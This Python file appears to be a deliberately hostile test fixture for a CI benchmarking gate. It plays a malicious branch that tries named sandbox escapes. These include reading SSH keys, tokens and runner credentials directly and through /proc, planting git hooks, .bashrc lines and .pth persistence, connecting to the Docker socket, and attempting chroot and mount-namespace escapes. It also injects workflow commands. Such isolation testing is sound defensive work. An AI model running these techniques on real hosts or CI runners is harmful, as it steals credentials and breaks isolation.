"""A head that means harm: each attack by its name, in every run or in its setup.

An attack that is seen from inside returns true. All others leave a mark with their name on the
host. The program goes on whatever fails, and at its end names the attacks that it saw work.
"""

import contextlib
import ctypes
import glob
import json
import multiprocessing.connection as connection
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path
from types import SimpleNamespace

MARK = "ATTACK WORKED:"
SECRET = "sw0rdf1sh-of-the-job"
WRITES = {
    "write_the_shells_start": "{home}/.bashrc",
    "install_a_git_hook": "{head}/.git/hooks/post-checkout",
    "write_beside_the_checkout": "{head}/../beside",
    "append_to_steering_files": "{victims}/env",
    "replace_gpu_advisor": "{temp}/gpu-advisor/app/advisor.py",
    "stay_in_python": "{site}/attacked.pth",
    "edit_the_code_of_another_gate": "{tmp}/gpu-advisor-another/base/bench.py",
}
READS = {
    "read_a_key": "{home}/.ssh/id_ed25519",
    "read_a_key_through_proc": "/proc/self/root{home}/.ssh/id_ed25519",
    "read_a_key_by_the_parent": "/proc/{ppid}/root{home}/.ssh/id_ed25519",
    "read_the_token_of_the_hub": "{home}/.cache/huggingface/token",
    "read_the_login_of_docker": "{home}/.docker/config.json",
    "read_the_credentials_of_the_runner": "{runner}/.credentials",
    "read_files_of_another_job": "{runner}/_work/other/secret",
    "read_files_of_this_job": "{temp}/event.json",
}
CALLS = {
    "call_a_daemon": (".", "{sockets}/docker.sock"),
    "call_a_daemon_by_a_relative_path": ("{sockets}", "docker.sock"),
    "call_an_abstract_socket": (".", "\0gate-{port}"),
}
"""Folder and address of a socket."""


def each(pattern: str) -> list[str]:
    return glob.glob(pattern)  # noqa: PTH207  an absolute pattern


def others(what: str) -> list[str]:
    return [p for p in each(f"/proc/[0-9]*/{what}") if p.split("/")[2] != str(os.getpid())]


def connects(family: int, address: object) -> bool:
    with socket.socket(family) as other:
        other.settimeout(3)
        other.connect(address)
    return True


class Attacks:
    """Each public method is one attack, beside those of the tables."""

    tables: tuple[dict, ...] = ()

    def __init__(self, host: dict) -> None:
        self.host = SimpleNamespace(ppid=os.getppid(), **host)
        self.env = f"{self.host.victims}/env"
        self.name = ""
        """Of the attack that is tried."""

    @classmethod
    def names(cls) -> list[str]:
        """Names of all attacks, in their order."""
        own = [name for of in cls.__mro__[-3::-1] for name, it in vars(of).items() if callable(it)]
        found = [name for table in cls.tables for name in table] + own
        return [name for name in found if not name.startswith("_")]

    def attempt(self, name: str) -> object:
        self.name = name
        places = vars(self.host)
        if name in WRITES:
            return self.harm(WRITES[name].format(**places))
        if name in READS:
            return bool(Path(READS[name].format(**places)).read_text())
        if name in CALLS:
            folder, address = (part.format(**places) for part in CALLS[name])
            with contextlib.chdir(folder):
                return connects(socket.AF_UNIX, address)
        return getattr(self, name)()

    def harm(self, path: str | Path) -> None:
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        with Path(path).open("a", encoding="utf-8") as file:
            file.write(f"# {MARK} {self.name}\n")


class InSetup(Attacks):
    """Tried by the setup, and by the program as well."""

    tables = (WRITES, READS, CALLS)

    def _git(self, *words: str) -> None:
        command = ["git", "-C", self.host.head, "config", *words, f"{MARK} {self.name}"]
        subprocess.run(command, check=False, capture_output=True)

    def set_gits_monitor(self) -> None:
        self._git("core.fsmonitor")

    def set_a_git_filter(self) -> None:
        self._git("filter.x.smudge")
        self._git("--global", "filter.x.smudge")
        self.harm(f"{self.host.head}/.git/info/attributes")

    def edit_base(self) -> None:
        """By where worktrees lie, and by git's own books."""
        found = each(f"{self.host.tmp}/gpu-advisor-*/*/bench.py")
        for book in each(f"{self.host.head}/.git/worktrees/*/gitdir"):
            found.append(str(Path(Path(book).read_text().strip()).parent / "bench.py"))
        for path in found:
            if "gpu-advisor-another" not in path:
                with contextlib.suppress(OSError):
                    Path(path).write_text("print('throughput:', 50)\n")

    def read_the_environment(self) -> bool:
        return any(SECRET in value for value in os.environ.values())

    def read_the_environment_of_others(self) -> bool:
        for path in others("environ"):
            with contextlib.suppress(OSError):
                if SECRET.encode() in Path(path).read_bytes():
                    return True
        return False

    def call_a_daemon_by_a_link(self) -> bool:
        with contextlib.chdir(os.environ["TMPDIR"]):
            Path("link").symlink_to(self.host.sockets)
            return connects(socket.AF_UNIX, "link/docker.sock")

    def show_the_keys_by_a_link(self) -> bool:
        """Where the command names an environment, its libraries are shown."""
        place = Path(self.host.head, ".venv")
        for name, target in (("bin/python", sys.executable), ("lib", f"{self.host.home}/.ssh")):
            with contextlib.suppress(OSError):
                (place / name).parent.mkdir(parents=True, exist_ok=True)
                (place / name).symlink_to(target)
        return bool((place / "lib" / "id_ed25519").read_text())

    def send_a_datagram_to_a_daemon(self) -> bool:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as own:
            return bool(own.sendto(b"x", f"{self.host.sockets}/log"))


class InProgram(InSetup):
    """Tried by each run."""

    def replace_steering_files(self) -> None:
        path = Path(self.host.victims, "state")
        self.harm(f"{path}.draft")
        Path(f"{path}.draft").replace(path)

    def link_steering_files(self) -> None:
        os.link(f"{self.host.victims}/path", "linked")
        self.harm("linked")

    def replace_the_report(self) -> None:
        path = Path(self.host.out, "gate-comment.md")
        path.unlink(missing_ok=True)
        path.symlink_to(f"{self.host.victims}/report")
        self.harm(path)

    def stay_alive(self) -> None:
        """A daemon that writes five seconds after the program has ended, however long that took.

        Popen returns once the shell runs; a mere fork could still be a Python that another attack
        sees.
        """
        program = "while kill -0 $PPID 2> /dev/null; do sleep 0.1; done"
        command = f"{program}; sleep 5; echo '{MARK} {self.name}' >> {self.env}"
        subprocess.Popen(["sh", "-c", command], start_new_session=True)

    def edit_base_through_other_processes(self) -> None:
        """Only files of the test: without a wall the way leads to every process of the machine."""
        for folder in others("cwd") + others("root") + others("fd/*"):
            for path in (f"{folder}/bench.py", folder + self.env):
                if os.path.realpath(path).startswith((self.host.tmp, self.host.victims)):
                    with contextlib.suppress(OSError):
                        self.harm(path)

    def poison_the_caches_of_base(self) -> None:
        for folder in each(f"{self.host.tmp}/gpu-advisor-*/caches/base"):
            Path(folder, "poison.py").write_text("")

    def read_the_memory_of_others(self) -> bool:
        for path in others("maps"):
            with contextlib.suppress(OSError):
                if "python" in Path(path).read_text():
                    Path(path.replace("maps", "mem")).open("rb").close()
                    return True
        return False

    def call_a_service_of_the_host(self) -> bool:
        return connects(socket.AF_INET, ("127.0.0.1", self.host.port))

    def take_the_walls_down(self) -> None:
        libc = ctypes.CDLL(None)
        for path in (b"/", self.host.victims.encode(), b"/tmp"):
            libc.umount2(path, 2)
            libc.mount(b"none", path, None, 1 << 14 | 1 << 5 | 4096, None)
        self.harm(self.env)

    def nest_namespaces(self) -> None:
        if os.fork() == 0:
            ctypes.CDLL(None).unshare(0x1000_0000 | 0x2_0000)
            self._last(self.take_the_walls_down)
        os.wait()

    def climb_out_of_the_root(self) -> None:
        def climb() -> None:
            Path("below").mkdir(exist_ok=True)
            os.chroot("below")
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            self.harm(self.env)

        if os.fork() == 0:
            self._last(climb)
        os.wait()

    @staticmethod
    def _last(attack) -> None:
        """This process, a child, ends with it."""
        try:
            attack()
        finally:
            os._exit(0)

    def print_workflow_commands(self) -> None:
        print(f"::error::{MARK}\n##[error]{MARK}\n::set-env name=X::{MARK}")
        print("::stop-commands::x\n::x::")


class OnRecords(Attacks):
    """Tried on what the gate reads of a run: they cost it its rate."""

    @staticmethod
    def _scratch(name: str) -> Path:
        """A path in the folder of this run, whose TMPDIR may lie elsewhere."""
        return Path(os.environ["GPU_ADVISOR_SPEC"]).parent / name

    def link_what_the_gate_writes(self) -> None:
        probe = ("loaded.jsonl", "disturbed.json", "disturbed.tmp", "999.json")
        rooms = ("room", *(f"room-{pid}" for pid in range(1, 400)))
        for path in (*rooms, *(f"probe/{name}" for name in probe)):
            with contextlib.suppress(OSError):
                self._scratch(path).symlink_to(self.env)

    def block_the_suite(self) -> None:
        """A reader of this pipe would wait for ever."""
        os.mkfifo(self._scratch("benchmark.json"))


STEPS = {"setup": InSetup, "program": InProgram, "records": OnRecords}


def ordinary_work() -> None:
    """Sockets of a program's own, which go on working."""
    with contextlib.chdir(os.environ["TMPDIR"]):  # an address holds 108 characters
        listener = connection.Listener("own", family="AF_UNIX")
        thread = threading.Thread(target=lambda: listener.accept().send("hello"))
        thread.start()
        assert connection.Client("own").recv() == "hello"
        thread.join()
    with socket.create_server(("127.0.0.1", 0)) as server:
        connects(socket.AF_INET, server.getsockname())


def main() -> None:
    """Try the attacks of a step, but for those that are left out."""
    step, *left_out = sys.argv[1:]
    arm, reached = os.environ["GPU_ADVISOR_ARM"], []
    attacks = STEPS[step](json.loads(Path("places.json").read_text()))
    if step == "setup":
        Path("built").write_text(arm)
    for name in attacks.names() if arm == "head" else ():
        if name not in left_out:
            with contextlib.suppress(OSError, EOFError, ValueError):
                if attacks.attempt(name):
                    reached.append(name)
                    attacks.harm(f"{attacks.host.out}/reached")
    if reached and "exit" not in left_out:
        sys.exit(f"REACHED {' '.join(reached)}")
    if step == "program":
        ordinary_work()
    print("throughput:", 50 + (os.getpid() % 7) / 100)


if __name__ == "__main__":
    main()
